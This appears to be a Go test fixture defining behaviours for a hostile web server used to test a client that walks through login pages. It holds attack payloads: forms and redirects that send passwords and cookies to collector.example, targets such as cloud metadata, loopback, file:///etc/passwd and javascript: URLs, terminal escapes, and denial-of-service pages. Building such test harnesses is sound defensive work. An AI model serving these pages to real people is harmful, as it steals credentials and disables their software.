package hostile

import (
	"fmt"
	"net/http"
	"net/url"
	"strings"
)

// shows answers with a page.
func shows(body string) func(*call) {
	return answers(http.StatusOK, "<!doctype html><title>Log in</title>"+body, "Content-Type", "text/html; charset=utf-8")
}

// asks returns a page with a login form; attributes say where it is sent.
func asks(attributes string) string {
	return `<form method="post" ` + attributes + `><input name="username"><input type="password" name="password">` +
		`<button>Log in</button></form>`
}

// pages returns behaviours that attack the person who walks through the pages.
func pages() []Behaviour {
	list := []Behaviour{
		{Name: "page.asks-again", Story: "It asks for the password, again and again.", answer: shows(asks(""))},
		{
			Name: "page.base", Story: "Its page has its base elsewhere.",
			answer: shows(`<base href="https://collector.example/">` + asks(`action="login"`)),
		},
		{Name: "page.formaction", Story: "Its button sends the password elsewhere.", answer: shows(
			`<form method="post"><input name="username"><input type="password" name="p">` +
				`<button formaction="https://collector.example/">Log in</button></form>`)},
		{
			Name: "page.by-get", Story: "Its form sends the password in a URL, elsewhere.",
			answer: shows(asks(`method="get" action="https://collector.example/"`)),
		},
		{Name: "page.nested", Story: "Its tags are nested 60,000 deep.", answer: shows(strings.Repeat("<b><i><div>", 20000))},
		{Name: "page.tables", Story: "Its tables are nested, with text between.", answer: shows(strings.Repeat("<table><tr>x<td>", 8000))},
		{Name: "page.formats", Story: "Its formatting elements overlap.", answer: shows(strings.Repeat("<a><b><i><p>", 20000))},
		{Name: "page.formats-again", Story: "Its 400 formatting elements are open in each of 200,000 paragraphs.", answer: func(c *call) {
			var open strings.Builder
			for i := range 400 {
				fmt.Fprintf(&open, "<b a%d>", i)
			}
			shows("<p>" + open.String() + strings.Repeat("<p>x", 200000))(c)
		}},
		{Name: "page.many-forms", Story: "It has 20,000 forms.", answer: shows(strings.Repeat("<form><input name=a></form>", 20000))},
		{
			Name: "page.many-fields", Story: "Its form has 50,000 fields.",
			answer: shows(`<form method="post">` + strings.Repeat("<input name=a value=b>", 50000) + "<button>Allow"),
		},
		{
			Name: "page.long-attribute", Story: "An attribute has 900 kB.",
			answer: shows(`<form method="post" action="` + strings.Repeat("x", 900000) + `"><button>Allow`),
		},
		{
			Name: "page.escapes", Story: "Its title and fields hold what a terminal obeys.",
			answer: shows("<title>" + escapes + `</title><form><input name="` + escapes + `">`),
		},
		{
			Name: "page.binary", Story: "It calls an image a page.",
			answer: answers(http.StatusOK, "\x89PNG\r\n\x1a\n\x00\x00", "Content-Type", "text/html"),
		},
		{Name: "page.silent", Story: "It never answers.", Hangs: true, answer: stays()},
		{
			Name: "page.endless", Story: "Its page has no end.",
			answer: repeats(ok+"Content-Type: text/html\r\n\r\n", strings.Repeat("<p>more", 512)),
		},
		{Name: "page.slow", Story: "Its page takes for ever.", Hangs: true, answer: drips(ok+"Content-Type: text/html\r\n\r\n", "<p>")},
		{Name: "page.leads-on", Story: "It leads from page to page without end.", answer: func(c *call) {
			at := *c.r.URL
			at.RawQuery += "&n=1"
			http.Redirect(c.w, c.r, at.String(), http.StatusFound)
		}},
		{Name: "page.tells", Story: "It leads elsewhere with what it was sent in the URL.", answer: func(c *call) {
			sent := c.r.URL.RawQuery + "&" + c.sent + "&" + url.QueryEscape(c.r.Header.Get("Cookie"))
			http.Redirect(c.w, c.r, "https://collector.example/?"+sent, http.StatusFound)
		}},
		{Name: "page.cookies", Story: "It sets 300 cookies of 200 bytes, and leads to itself.", answer: func(c *call) {
			for i := range 300 {
				c.w.Header().Add("Set-Cookie", fmt.Sprintf("c%d=%s", i, strings.Repeat("c", 200)))
			}
			http.Redirect(c.w, c.r, c.r.URL.String(), http.StatusFound)
		}},
	}
	for name, where := range map[string]string{
		"metadata-address": "http://169.254.169.254/latest", "elsewhere": "https://collector.example/", "loopback": "http://127.0.0.1:1/",
		"other-spelling": "http://2852039166/", "script": "javascript:alert(1)", "file": "file:///etc/passwd", "data": "data:text/html,x",
	} {
		list = append(list,
			Behaviour{
				Name: "page.posts-to-" + name, Story: "Its form sends the password to " + where + ".",
				answer: shows(asks(`action="` + where + `"`)),
			},
			Behaviour{Name: "page.leads-to-" + name, Story: "It leads to " + where + ", with a cookie.", answer: answers(http.StatusFound, "",
				"Location", where, "Set-Cookie", "session=of-this-person; Path=/")})
	}
	for i := range list {
		list[i].At = Page
	}
	return list
}
